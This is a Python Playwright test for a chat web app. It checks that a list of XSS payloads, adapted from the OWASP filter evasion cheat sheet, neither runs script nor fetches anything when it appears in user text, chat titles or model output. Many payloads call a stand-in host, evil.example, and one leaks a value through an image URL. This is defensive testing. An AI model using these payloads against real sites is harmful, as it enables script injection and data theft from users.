"""HTML and script in a model's output, a user's text and a chat's title: nothing runs, nothing is fetched."""

import httpx
import pytest
from playwright.async_api import Page, Request, expect

from tests.app import App
from tests.e2e.chat import ChatPage

pytestmark = pytest.mark.anyio

# After OWASP's XSS filter evasion cheat sheet. Each would set `window.hacked` or fetch from evil.example.
CASES = [
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=window.hacked=1>",
    '<IMG SRC="javascript:window.hacked=1;">',
    '<IMG """><SCRIPT>window.hacked=1</SCRIPT>">',
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png?q=secret)",
    "![x](javascript:window.hacked=1)",
    "<svg/onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<body onload=window.hacked=1>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<div style=\"background-image:url('https://evil.example/bg.png')\">x</div>",
    '<div style="width: expression(window.hacked=1);">x</div>',
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<form action=https://evil.example/><button>Send</button></form>",
    "<video src=https://evil.example/v.mp4 onerror=window.hacked=1></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<a href=javascript:window.hacked=1 autofocus>click</a>",
    "[click](javascript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[click](vbscript:window.hacked=1)",
    "[click](JaVaScRiPt:window.hacked=1)",
    "[click](java\tscript:window.hacked=1)",
    "<math><mtext></table></math><img src=x onerror=window.hacked=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "<template><img src=x onerror=window.hacked=1></template>",
    "```html\n<img src=x onerror=window.hacked=1>\n```",
    '```mermaid\ngraph LR; A["<img src=x onerror=window.hacked=1>"]-->B; click A "javascript:window.hacked=1"\n```',
    "$$\\href{javascript:window.hacked=1}{x}$$",
    '<!--<img src="--><img src=x onerror=window.hacked=1//">',
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e",
]


async def test_nothing_runs_and_nothing_is_fetched(page: Page, app: App) -> None:
    foreign: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((app.url, "data:", "blob:")):
            foreign.append(request.url)

    page.on("request", note)
    page.on("dialog", lambda dialog: foreign.append(dialog.message))
    chat = await ChatPage(page, app).open()
    text = "\n\n".join(CASES)
    # As a user's text and as the chat's title …
    await chat.ask("<img src=x onerror=window.hacked=1> <b>title</b>\n" + text)
    await chat.ended()
    httpx.patch(f"{app.url}/chats/{await chat.chat_id()}", json={"title": CASES[2]}).raise_for_status()
    await expect(page.get_by_role("link", name=CASES[2])).to_be_visible()
    # … and as a model's output, each alone and all at once.
    for case in CASES:
        await chat.ask(text=case)
        await chat.ended()
    await chat.ask(text=text)
    await chat.ended()
    for link in await chat.answers.locator("a").all():
        href = await link.get_attribute("href") or ""
        assert href.startswith(("http://", "https://", "#", "mailto:")) or href == "", href
    assert await page.evaluate("window.hacked") is None
    assert foreign == []
    # A diagram brings a style sheet of its own, inside its picture.
    await expect(page.locator("article :is(script, iframe, object, embed, form, :not(svg) > style)")).to_have_count(0)
